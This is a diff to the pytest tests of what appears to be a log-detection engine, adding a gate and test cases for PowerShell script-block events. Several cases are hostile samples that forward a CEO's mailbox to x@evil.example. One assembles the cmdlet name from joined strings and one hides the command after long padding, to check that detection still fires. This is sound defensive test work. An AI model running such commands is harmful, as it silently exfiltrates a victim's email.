@@ -15,6 +15,7 @@ from app.finding import output_fields
 from app.normalise.windows_endpoint import (FILE_ACCESS, FILE_CHANGE, FILE_CREATE, GATED_PROCESS_FIELDS,
                                              PROCESS_CREATE, SHARE_ACCESS, normalise_windows_endpoint)
 from app.normalise.endpoint_gate import endpoint_gate, necessary_clauses
+from app.normalise.windows_text import SCRIPT_BLOCK_OPERATION
 from tests.conftest import REPO
 from tools.bench import make_records
 from tools.step_count import count_steps
@@ -32,7 +33,8 @@ def ungated():
 @pytest.fixture(scope="module")
 def gated():
     engine = Engine.load(REPO)
-    assert set(engine.context.endpoint_gates) == {PROCESS_CREATE, FILE_CREATE, FILE_ACCESS, SHARE_ACCESS, FILE_CHANGE}
+    assert set(engine.context.endpoint_gates) == {PROCESS_CREATE, FILE_CREATE, FILE_ACCESS, SHARE_ACCESS, FILE_CHANGE,
+                                                  SCRIPT_BLOCK_OPERATION}
     return engine
 
 
@@ -186,3 +188,32 @@ def test_reader_without_the_engine_reads_every_endpoint_event():
     (event,) = normalise_windows_endpoint({"EventCode": "11", "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
                                            "TargetFilename": "C:\\x\\notes.txt", "Image": "C:\\n.exe"}, context)
     assert event.extra["file_name"] == "notes.txt"
+
+
+def _script_block(text):
+    return {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
+            "EventCode": "4104", "Computer": "ws-0001.contoso.local", "UserID": "S-1-5-21-1-2-3-1001",
+            "ScriptBlockText": text}
+
+
+SCRIPT_BLOCK_CASES = [
+    # A cmdlet name only joined pieces spell, run through a variable.
+    ("$a = 'New-'+'InboxRule'; & $a -Mailbox ceo -ForwardTo x@evil.example", True),
+    # A call after a long script: the gate reads the whole text, as the cmdlet scan does.
+    ("Write-Output 'padding'\n" * 2000 + "Set-Mailbox ceo -ForwardingSmtpAddress x@evil.example", True),
+    # A script rule's words (Outlook automation), upper case.
+    ("$o = New-Object -ComObject OUTLOOK.APPLICATION; $o.GetNamespace('MAPI')", True),
+    ("Get-ChildItem C:\\temp -Filter *.log | Remove-Item -WhatIf", False),
+    ("$total = 'Files: ' + $count; Write-Host $total", False),
+]
+
+
+@pytest.mark.parametrize("text, fires", SCRIPT_BLOCK_CASES, ids=["joined-name", "after-a-long-script", "outlook-com",
+                                                                  "benign", "benign-joined"])
+def test_script_block_gate_lets_through_what_the_rules_and_the_cmdlet_scan_need(gated, ungated, text, fires):
+    record = _script_block(text)
+    assert_same_outcomes(gated, ungated, [record])
+    assert bool(gated.findings(dict(record))) == fires
+    from app.normalise import normalise
+    read = normalise(dict(record), gated.context)
+    assert bool(read) == fires, "a script block no rule can fire on is answered by its gate, before any event"
